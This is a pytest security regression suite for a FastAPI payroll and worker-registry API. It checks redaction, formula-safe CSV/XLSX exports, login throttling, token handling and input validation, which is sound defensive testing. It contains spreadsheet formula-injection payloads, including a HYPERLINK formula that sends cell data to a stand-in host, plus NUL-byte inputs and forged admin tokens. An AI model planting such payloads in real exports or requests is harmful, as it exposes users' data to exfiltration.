"""Regression tests for the security review: no input echoed in 422s, no national ID in the access
log, formula-safe exports, an atomic login limit, uniform 404s for supervisors, token ids in
range, weak secrets, user names and passwords, strict types, no-store on secrets."""

from __future__ import annotations

import csv
import io
import logging
import zipfile

import pytest

from api.logs import RedactQuery, install_access_log_filter, redact_query
from api.national_id import check_char
from tests.api.conftest import PASSWORD, Api
from tests.api.test_resources import household

NID = "11010519491231002X"  # the GB 11643 example
NID2 = "62052519900101123" + check_char("62052519900101123")

SQLITE = pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)


def _no_echo(body: dict, *secrets: str) -> None:  # type: ignore[type-arg]
    text = str(body)
    for s in secrets:
        assert s not in text, body
    for err in body["detail"]:
        assert set(err) == {"loc", "msg", "type"}, err


# -- 1. validation errors echo nothing; the national ID stays out of URLs and logs -------------


@SQLITE
def test_validation_errors_do_not_echo_input(api: Api) -> None:
    hid = household(api)
    r = api.post("manager", "/api/v1/workers", json={"national_id": NID, "household_id": hid})
    assert r.status_code == 422
    _no_echo(r.json(), NID)
    assert r.json()["detail"] == [{"loc": ["body", "name"], "msg": "Field required", "type": "missing"}]
    # The reason is kept: a bad checksum says so, without the number.
    bad = NID[:17] + "1"
    r = api.post("manager", "/api/v1/workers", json={"name": "x", "national_id": bad, "household_id": hid})
    assert r.status_code == 422 and "checksum" in r.text
    _no_echo(r.json(), bad)
    # An unknown field names the field, not its value.
    wid = api.ok(
        "manager", "POST", "/api/v1/workers", json={"name": "x", "national_id": NID, "household_id": hid}
    )["id"]
    r = api.client.patch(
        f"/api/v1/workers/{wid}", headers=api.as_("manager"), json={"national_id": NID2, "phone": "1"}
    )
    assert r.status_code == 422
    _no_echo(r.json(), NID2)
    assert {tuple(e["loc"]) for e in r.json()["detail"]} == {("body", "national_id"), ("body", "phone")}
    # A user without a role: the password is not sent back.
    r = api.post("admin", "/api/v1/users", json={"username": "newbie", "password": "S3cret-pass-word"})
    assert r.status_code == 422
    _no_echo(r.json(), "S3cret-pass-word")
    # Broken JSON and form logins with a missing field: the same shape.
    r = api.client.post(
        "/api/v1/households",
        headers={**api.as_("manager"), "Content-Type": "application/json"},
        content=b"{x",
    )
    assert r.status_code == 422
    _no_echo(r.json())
    r = api.client.post("/api/v1/auth/token", data={"username": "admin"})
    assert r.status_code == 422 and r.json()["detail"][0]["loc"] == ["body", "password"]
    # The OpenAPI schema still describes the 422 body (loc, msg, type are its required fields).
    err = api.client.get("/openapi.json").json()["components"]["schemas"]["ValidationError"]
    assert {"loc", "msg", "type"} <= set(err["required"])


@SQLITE
def test_lookup_by_national_id_in_the_body(api: Api) -> None:
    hid = household(api)
    wid = api.ok(
        "manager", "POST", "/api/v1/workers", json={"name": "x", "national_id": NID, "household_id": hid}
    )["id"]
    for role in ("manager", "supervisor", "payroll"):
        found = api.ok(role, "POST", "/api/v1/workers/lookup", json={"national_id": NID.lower()})
        assert found["total"] == 1 and found["items"][0]["id"] == wid and NID not in str(found)
    assert api.ok("manager", "POST", "/api/v1/workers/lookup", json={"national_id": NID2})["total"] == 0
    r = api.post("manager", "/api/v1/workers/lookup", json={"national_id": NID[:17] + "1"})
    assert r.status_code == 422 and "checksum" in r.text
    assert api.post("poverty_office", "/api/v1/workers/lookup", json={"national_id": NID}).status_code == 403
    # The GET filter still works (compatibility) and answers the same.
    assert api.get("manager", "/api/v1/workers", params={"national_id": NID}).json()["total"] == 1


def test_access_log_redacts_the_national_id() -> None:
    assert redact_query("/api/v1/workers?national_id=11010519491231002X&limit=5") == (
        "/api/v1/workers?national_id=[redacted]&limit=5"
    )
    assert redact_query("/api/v1/workers?limit=5&national%5Fid=11010519491231002X") == (
        "/api/v1/workers?limit=5&national%5Fid=[redacted]"
    )
    assert redact_query("/api/v1/workers?name=national_id") == "/api/v1/workers?name=national_id"
    assert redact_query("/health") == "/health"


def test_access_log_filter_survives_uvicorn_logging_setup(caplog: pytest.LogCaptureFixture) -> None:
    """uvicorn configures logging when its Config is built: the filter must still be there, and
    a line formatted as uvicorn formats it must come out redacted."""
    import uvicorn

    install_access_log_filter()
    uvicorn.Config(lambda *a: None, log_level="info")  # runs uvicorn's dictConfig
    logger = logging.getLogger("uvicorn.access")
    assert any(isinstance(f, RedactQuery) for f in logger.filters)
    with caplog.at_level(logging.INFO, logger="uvicorn.access"):
        logger.addHandler(caplog.handler)
        try:
            logger.info(
                '%s - "%s %s HTTP/%s" %d',
                "127.0.0.1:5",
                "GET",
                f"/api/v1/workers?national_id={NID}",
                "1.1",
                200,
            )
        finally:
            logger.removeHandler(caplog.handler)
    assert NID not in caplog.text and "national_id=[redacted]" in caplog.text


# -- 2. exports: text is never a formula ------------------------------------------------------

EVIL = ["=2+3", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2", "@SUM(A1)", "\tx", "\rx"]


def test_export_writes_text_as_text() -> None:
    from openpyxl import load_workbook

    from api.services.export import to_csv, to_xlsx

    cols = [("name", "Name", "名"), ("n", "N", "数"), ("x", "X", "额")]
    rows: list[dict[str, object]] = [{"name": v, "n": -3, "x": 1.5} for v in EVIL]
    rows.append({"name": "total", "n": 7, "x": -0.5})
    got = list(csv.reader(io.StringIO(to_csv(rows, cols, "en").decode("utf-8-sig"))))
    assert [r[0] for r in got[1:-1]] == ["'" + v for v in EVIL]
    # numbers stay numbers (floats are yuan: two decimals)
    assert got[1][1:] == ["-3", "1.50"] and got[-1] == ["Total", "7", "-0.50"]
    ws = load_workbook(io.BytesIO(to_xlsx(rows, cols, "en", "t"))).active
    assert ws is not None
    for i, v in enumerate(EVIL, start=2):
        cell = ws.cell(i, 1)
        # (XML reads a CR back as LF)
        assert cell.value in (v, v.replace("\r", "\n")) and cell.data_type == "s", (v, cell.data_type)
        assert ws.cell(i, 2).value == -3 and ws.cell(i, 2).data_type == "n"
    # Nothing in the sheet's XML is a formula.
    with zipfile.ZipFile(io.BytesIO(to_xlsx(rows, cols, "en", "t"))) as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()


@SQLITE
def test_report_exports_do_not_run_village_names(api: Api) -> None:
    from openpyxl import load_workbook

    villages = ["=2+3", '=HYPERLINK("http://evil.example","x")', "@SUM(A1)"]
    ids = []
    for i, v in enumerate(villages):
        body = {"code": f"E{i}", "village": v, "township": "-1+1", "members": 2, "registered_poor": True}
        ids.append(api.ok("manager", "POST", "/api/v1/households", json=body)["id"])
    api.ok("payroll", "POST", "/api/v1/dividends",
           json={"paid_on": "2026-03-05", "source": "park", "basis": "per_household", "amount": "100.00",
                 "household_ids": ids})  # fmt: skip
    params = {"year": 2026, "by": "village"}
    r = api.get("poverty_office", "/api/v1/reports/employment", params=params | {"format": "csv"})
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    cells = {c for row in rows[1:] for c in row}
    assert {"'" + v for v in villages} <= cells and "'-1+1" in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    r = api.get("poverty_office", "/api/v1/reports/employment", params=params | {"format": "xlsx"})
    ws = load_workbook(io.BytesIO(r.content)).active
    assert ws is not None
    texts = {c.value: c.data_type for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str)}
    assert set(villages) <= set(texts) and set(texts.values()) == {"s"}


# -- 3. the failed-login limit holds under parallel requests; its rows are bounded -------------


def test_parallel_bad_passwords_hit_the_limit(api: Api) -> None:
    from concurrent.futures import ThreadPoolExecutor

    def attempt(_: int) -> int:
        r = api.client.post("/api/v1/auth/token", data={"username": "payroll", "password": "wrong-password"})
        return r.status_code

    with ThreadPoolExecutor(max_workers=20) as pool:
        codes = list(pool.map(attempt, range(40)))
    assert codes.count(401) == 10 and codes.count(429) == 30, codes  # the limit is 10 a minute


@SQLITE
def test_spelling_variants_of_a_name_share_its_limit(api: Api) -> None:
    names = ["payroll", "PAYROLL", " payroll", "payroll\t", "Payroll"]
    for name in names:
        r = api.client.post("/api/v1/auth/token", data={"username": name, "password": "wrong-password"})
        assert r.status_code == 401
    # One key for the name, whatever its case or surrounding space (the login finds one user).
    throttle = api.app.state.login_throttle
    assert throttle.attempts("user:payroll") == len(names)
    assert throttle.keys_held() == 2  # that name and the client's address, nothing else


@SQLITE
def test_successful_logins_do_not_use_up_the_limit(api: Api) -> None:
    for _ in range(15):
        r = api.client.post("/api/v1/auth/token", data={"username": "manager", "password": PASSWORD})
        assert r.status_code == 200
    assert api.app.state.login_throttle.keys_held() == 0  # released: no rows left behind


@SQLITE
def test_overlong_login_names_and_passwords(api: Api) -> None:
    throttle = api.app.state.login_throttle
    before = throttle.keys_held()
    r = api.client.post("/api/v1/auth/token", data={"username": "a" * 5000, "password": "x" * 10})
    assert r.status_code == 401
    assert throttle.keys_held() <= before + 1  # the address at most, not a 5,000-character name
    assert throttle.attempts("user:" + "a" * 5000) == 0
    r = api.client.post("/api/v1/auth/token", data={"username": "manager", "password": "p" * 100_000})
    assert r.status_code == 401


def test_login_names_no_login_could_have(api: Api) -> None:
    # A NUL in the name went into the user lookup: PostgreSQL refuses it in text (500, before
    # any login).  Such a name names nobody: 401, and it is not kept as a throttle key.
    throttle = api.app.state.login_throttle
    for name in ("manager\x00", "man\x00ager", "manager\x7f", "mañager"):
        before = throttle.keys_held()
        r = api.client.post("/api/v1/auth/token", data={"username": name, "password": PASSWORD})
        assert r.status_code == 401 and r.json() == {"detail": "wrong user name or password"}, r.text
        assert throttle.keys_held() <= before + 1  # the address at most
    r = api.client.post("/api/v1/auth/token", data={"username": " Manager ", "password": PASSWORD})
    assert r.status_code == 200, r.text


# -- 4. a supervisor cannot tell another unit's objects from missing ones ----------------------


@SQLITE
def test_supervisor_404s_read_the_same(api: Api) -> None:
    from tests.api.test_resources import _setup_units, _shift

    ids = _setup_units(api)
    other = api.ok("manager", "POST", "/api/v1/shifts", json=_shift(ids, "house-02", "2026-03-02 08:00", "2026-03-02 12:00"))["id"]  # fmt: skip
    missing = other + 1000

    def detail(method: str, path: str, **kw: object) -> tuple[int, str]:
        r = api.client.request(method, path, headers=api.as_("supervisor"), **kw)  # type: ignore[arg-type]
        return r.status_code, r.json()["detail"]

    for method in ("GET", "DELETE"):
        assert detail(method, f"/api/v1/shifts/{other}") == (404, f"shift {other} not found")
        assert detail(method, f"/api/v1/shifts/{missing}") == (404, f"shift {missing} not found")
    body = _shift(ids, "house-01", "2026-03-04 08:00", "2026-03-04 12:00")
    assert detail("PUT", f"/api/v1/shifts/{other}", json=body) == (404, f"shift {other} not found")
    # A new shift at another unit's location reads like one at a location that does not exist.
    loc2, nowhere = ids["house-02"], ids["house-02"] + 1000
    assert detail("POST", "/api/v1/shifts", json=body | {"location_id": loc2}) == (
        404, f"location {loc2} not found"
    )  # fmt: skip
    assert detail("POST", "/api/v1/shifts", json=body | {"location_id": nowhere}) == (
        404, f"location {nowhere} not found"
    )  # fmt: skip
    window = {"start": "2026-03-02T00:00:00+08:00", "end": "2026-03-03T00:00:00+08:00"}
    assert detail("GET", "/api/v1/production/house-02", params=window) == (404, "location house-02 not found")
    assert detail("GET", "/api/v1/production/house-99", params=window) == (404, "location house-99 not found")


# -- 5. a signed token naming an impossible user id is a 401, not a 500 -----------------------


@pytest.mark.parametrize(
    "db_url", ["sqlite", pytest.param("postgresql", marks=pytest.mark.integration)], indirect=True
)
def test_token_with_out_of_range_subject(api: Api) -> None:
    import datetime as dt

    import jwt

    keys = api.app.state.keys
    now = dt.datetime.now(dt.UTC)
    for sub in ("99999999999999", "2147483648", "0", "-1", "1e3", "", "１"):
        claims = {"sub": sub, "role": "admin", "iat": now, "exp": now + dt.timedelta(minutes=5)}
        token = jwt.encode(claims, keys.jwt, algorithm="HS256")
        r = api.client.get("/api/v1/auth/me", headers={"Authorization": f"Bearer {token}"})
        assert r.status_code == 401, (sub, r.status_code, r.text)
    assert keys.read_token(keys.issue_token(2**31 - 1, "admin", dt.timedelta(minutes=1))) == 2**31 - 1


# -- 7. user names are case-insensitive; trivial passwords and unknown units are refused ------


@pytest.mark.parametrize(
    "db_url", ["sqlite", pytest.param("postgresql", marks=pytest.mark.integration)], indirect=True
)
def test_usernames_are_case_insensitive(api: Api) -> None:
    r = api.post(
        "admin", "/api/v1/users", json={"username": "ADMIN", "password": "another long one", "role": "admin"}
    )
    assert r.status_code == 409 and "already exists" in r.json()["detail"]
    r = api.post(
        "admin", "/api/v1/users", json={"username": "Clerk.Two", "password": PASSWORD, "role": "payroll"}
    )
    assert r.status_code == 201 and r.json()["username"] == "clerk.two"
    assert api.post("admin", "/api/v1/users", json={"username": "clerk.TWO", "password": PASSWORD, "role": "payroll"}).status_code == 409  # fmt: skip
    for spelling in ("clerk.two", "CLERK.TWO", "Clerk.Two"):
        r = api.client.post("/api/v1/auth/token", data={"username": spelling, "password": PASSWORD})
        assert r.status_code == 200, spelling
    r = api.client.post("/api/v1/auth/token", data={"username": "Manager", "password": PASSWORD})
    assert r.status_code == 200


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_logins_made_before_names_were_lower_case(api: Api) -> None:
    """Older rows may hold upper case: they log in in any case, and block the name in any case;
    two that differ only in case log in by their exact spelling only."""
    from sqlalchemy.orm import Session

    from api.models import User
    from api.security import hash_password

    with Session(api.app.state.engine) as s:
        s.add(User(username="OldBoss", role="manager", password_hash=hash_password(PASSWORD), active=True))
        s.add(User(username="twin", role="manager", password_hash=hash_password(PASSWORD), active=True))
        s.add(User(username="TWIN", role="payroll", password_hash=hash_password(PASSWORD), active=True))
        s.commit()
    login = lambda name: api.client.post("/api/v1/auth/token", data={"username": name, "password": PASSWORD})  # noqa: E731
    assert login("oldboss").status_code == 200 and login("OLDBOSS").status_code == 200
    assert api.post("admin", "/api/v1/users", json={"username": "oldboss", "password": PASSWORD, "role": "admin"}).status_code == 409  # fmt: skip
    assert login("twin").status_code == 200 and login("TWIN").status_code == 200
    assert login("Twin").status_code == 401


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_trivial_passwords_are_refused(api: Api) -> None:
    def create(username: str, password: str) -> tuple[int, str]:
        r = api.post(
            "admin", "/api/v1/users", json={"username": username, "password": password, "role": "manager"}
        )
        return r.status_code, str(r.json().get("detail"))

    code, why = create("worker7", "a" * 10)
    assert code == 400 and "one character repeated" in why
    code, why = create("gatekeeper7", "GateKeeper7")
    assert code == 400 and "user name" in why
    assert create("worker7", "aaaaaaaaab")[0] == 201  # the rule is simple: not more than that


def test_cli_rules_match(tmp_path: object) -> None:
    from sqlalchemy.orm import Session

    from api.services.users import create_user, password_problem
    from eggwatch.migrations import upgrade
    from eggwatch.sql import make_engine

    assert password_problem("x" * 12, "u") and password_problem("Someone-Long", "someone-long")
    assert password_problem(PASSWORD, "someone") is None
    url = f"sqlite:///{tmp_path}/u.db"
    upgrade(url)
    engine = make_engine(url)
    with Session(engine) as s:
        assert create_user(s, "Ops.Lead", "manager", PASSWORD).username == "ops.lead"
        with pytest.raises(ValueError, match="already exists"):
            create_user(s, "OPS.lead", "manager", PASSWORD)
        with pytest.raises(ValueError, match="user name"):
            create_user(s, "has space", "manager", PASSWORD)
    engine.dispose()


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_supervisor_units_must_be_known_locations(api: Api) -> None:
    api.ok("manager", "POST", "/api/v1/locations", json={"unit": "house-01", "kind": "house", "name": "H1"})
    body = {"username": "sup9", "password": PASSWORD, "role": "supervisor", "units": ["house-01", "house-99"]}
    r = api.post("admin", "/api/v1/users", json=body)
    assert r.status_code == 400 and "house-99" in r.json()["detail"] and "house-01" not in r.json()["detail"]
    r = api.post("admin", "/api/v1/users", json=body | {"units": ["house-01"]})
    assert r.status_code == 201 and r.json()["units"] == ["house-01"]


# -- 8. integers and booleans in request bodies are not coerced --------------------------------


@SQLITE
def test_request_bodies_do_not_coerce_types(api: Api) -> None:
    from tests.api.test_resources import _setup_units, _shift

    hh = {"code": "S1", "village": "v", "township": "t", "members": 3, "registered_poor": True}
    for bad in ({"members": "3"}, {"members": 3.0}, {"registered_poor": "true"}, {"registered_poor": 1},
                {"poverty_exit_year": "2024"}):  # fmt: skip
        r = api.post("manager", "/api/v1/households", json=hh | bad)
        assert r.status_code == 422, (bad, r.text)
    hid = api.ok("manager", "POST", "/api/v1/households", json=hh)["id"]
    r = api.post(
        "manager", "/api/v1/workers", json={"name": "x", "national_id": NID, "household_id": str(hid)}
    )
    assert r.status_code == 422
    r = api.client.patch(f"/api/v1/households/{hid}", headers=api.as_("manager"), json={"members": "4"})
    assert r.status_code == 422

    ids = _setup_units(api)
    shift = _shift(ids, "house-01", "2026-03-02 08:00", "2026-03-02 12:00")
    wrong: list[dict[str, object]] = [
        {"entered_count": "12"}, {"break_minutes": True}, {"break_minutes": "30"}, {"worker_id": str(ids["w"])},
    ]  # fmt: skip
    for bad2 in wrong:
        r = api.post("manager", "/api/v1/shifts", json=shift | bad2)
        assert r.status_code == 422, (bad2, r.text)
    # Dates and datetimes as ISO strings, yuan as strings: still parsed.
    assert api.post("manager", "/api/v1/shifts", json=shift | {"entered_count": 12, "break_minutes": 30}).status_code == 201  # fmt: skip
    rule = {"name": "r", "effective_from": "2026-01-01", "base_per_hour": "12.50", "per_1000_eggs": 3}
    assert (
        api.post("payroll", "/api/v1/rules", json=rule | {"task_id": str(ids["collect"])}).status_code == 422
    )
    assert api.post("payroll", "/api/v1/rules", json=rule | {"task_id": ids["collect"]}).status_code == 201
    div = {"paid_on": "2026-03-05", "source": "park", "basis": "per_household", "amount": "10.00"}
    assert api.post("payroll", "/api/v1/dividends", json=div | {"registered_poor_only": 1}).status_code == 422
    assert (
        api.post("payroll", "/api/v1/dividends", json=div | {"household_ids": [str(hid)]}).status_code == 422
    )
    assert api.post("payroll", "/api/v1/dividends", json=div | {"household_ids": [hid]}).status_code == 201


# -- 9. responses carrying secrets are not cached ---------------------------------------------


@SQLITE
def test_secrets_are_sent_no_store(api: Api) -> None:
    hid = household(api)
    body = {"name": "x", "national_id": NID, "household_id": hid, "bank_account": "6228480012345678"}
    wid = api.ok("manager", "POST", "/api/v1/workers", json=body)["id"]
    r = api.post("payroll", f"/api/v1/workers/{wid}/unmask", json={"reason": "pay March wages"})
    assert r.status_code == 200 and r.json()["national_id"] == NID
    assert r.headers["cache-control"] == "no-store" and r.headers["pragma"] == "no-cache"
    r = api.client.post("/api/v1/auth/token", data={"username": "payroll", "password": PASSWORD})
    assert r.status_code == 200
    assert r.headers["cache-control"] == "no-store" and r.headers["pragma"] == "no-cache"


def test_405_names_every_method_the_path_serves(api: Api) -> None:
    """List and create are two routes at one path; the Allow header names both."""
    r = api.client.delete("/api/v1/workers", headers=api.as_("admin"))
    assert r.status_code == 405 and r.json() == {"detail": "Method Not Allowed"}
    assert r.headers["allow"] == "GET, HEAD, POST"
    r = api.client.put("/api/v1/workers/1", headers=api.as_("admin"))
    assert r.status_code == 405 and "PATCH" in r.headers["allow"].split(", ")
    assert api.client.get("/api/v1/nothing-here").status_code == 404  # other errors as before


def test_head_is_served_wherever_get_is(api: Api) -> None:
    # The Allow header says "GET, HEAD", but FastAPI routes do not add HEAD (Starlette's own
    # routes do): HEAD /health, as uptime monitors send it, was a 405.
    r = api.client.head("/health")
    assert r.status_code == 200 and r.content == b""
    get = api.get("manager", "/api/v1/workers")
    r = api.client.head("/api/v1/workers", headers=api.as_("manager"))
    assert r.status_code == 200 and r.content == b""
    assert r.headers["content-length"] == get.headers["content-length"]
    assert api.client.head("/api/v1/workers").status_code == 401  # checked as a GET
    assert api.client.head("/api/v1/auth/token").headers["allow"] == "POST"  # no GET, no HEAD


@pytest.mark.parametrize(
    ("role", "path", "param"),
    [
        ("manager", "/api/v1/households", "village"),
        ("manager", "/api/v1/households", "township"),
        ("manager", "/api/v1/workers", "name"),
        ("admin", "/api/v1/audit", "action"),
    ],
)
def test_text_filters_refuse_control_characters(api: Api, role: str, path: str, param: str) -> None:
    # PostgreSQL refuses NUL in text: a filter holding one failed the whole query with a 500.
    r = api.get(role, path, params={param: "a\x00b"})
    assert r.status_code == 422, r.text
    assert r.json()["detail"][0]["loc"] == ["query", param]
    assert api.get(role, path, params={param: "东关村"}).status_code == 200


def test_payroll_lines_of_an_id_beyond_32_bits(api: Api) -> None:
    # The id went into the lines query as is: PostgreSQL answered "integer out of range" (500).
    for run_id in (2**31, 2**63, -(2**63) - 1):
        r = api.get("payroll", f"/api/v1/payroll/runs/{run_id}/lines")
        assert r.status_code == 404, r.text
        assert r.json() == {"detail": f"payroll_run {run_id} not found"}


def test_free_text_in_bodies_refuses_control_characters(api: Api) -> None:
    # Names and notes refused them already; these went to PostgreSQL, which refuses a NUL in
    # text: the unmask reason (audit record) and the adjustment reason were 500s, the e-mail too.
    hh = {"code": "C1", "village": "v", "township": "t", "members": 3, "registered_poor": True}
    hid = api.ok("manager", "POST", "/api/v1/households", json=hh)["id"]
    wid = api.ok(
        "manager", "POST", "/api/v1/workers", json={"name": "x", "national_id": NID, "household_id": hid}
    )["id"]
    calls = [
        ("payroll", f"/api/v1/workers/{wid}/unmask", {"reason": "pay\x00day"}, "reason"),
        ("payroll", "/api/v1/payroll/runs/1/adjustments", {"worker_id": wid, "amount": "1", "reason": "bo\x00nus"}, "reason"),
        ("admin", "/api/v1/users", {"username": "mail1", "password": "a-long-password", "role": "manager", "email": "a\x00b@example.org"}, "email"),
    ]  # fmt: skip
    for role, path, body, field in calls:
        r = api.post(role, path, json=body)
        assert r.status_code == 422, (path, r.text)
        assert r.json()["detail"][0]["loc"] == ["body", field]
    assert not api.ok("admin", "GET", "/api/v1/audit")["items"]  # no unmasking was recorded


def test_request_bodies_are_capped(api: Api) -> None:
    # Bodies were read whole before anything else, without a limit: one unauthenticated 300 MB
    # POST took the server to 1 GB of memory before its 401.  The largest body the API takes
    # (a dividend for 10,000 households) is about 110 kB.
    big = b'{"code": "' + b"a" * (2 << 20) + b'"}'
    json_ = {"content-type": "application/json"}
    for headers in ({}, api.as_("manager")):
        r = api.client.post("/api/v1/households", content=big, headers={**json_, **headers})
        assert r.status_code == 413 and r.json() == {"detail": "Content Too Large"}, r.text[:200]

    def chunks():  # no Content-Length: counted as it arrives
        yield b'{"code": "'
        for _ in range(3):
            yield b"a" * (1 << 20)
        yield b'"}'

    r = api.client.post("/api/v1/households", content=chunks(), headers={**json_, **api.as_("manager")})
    assert r.status_code == 413 and r.json() == {"detail": "Content Too Large"}, r.text[:200]
    ids = list(range(1, 10_001))  # the largest body there is: still served
    r = api.post("payroll", "/api/v1/dividends", json={"paid_on": "2026-03-05", "source": "park",
                 "basis": "per_household", "amount": "1", "household_ids": ids})  # fmt: skip
    assert r.status_code == 404, r.text[:200]  # checked: no such households, not too large
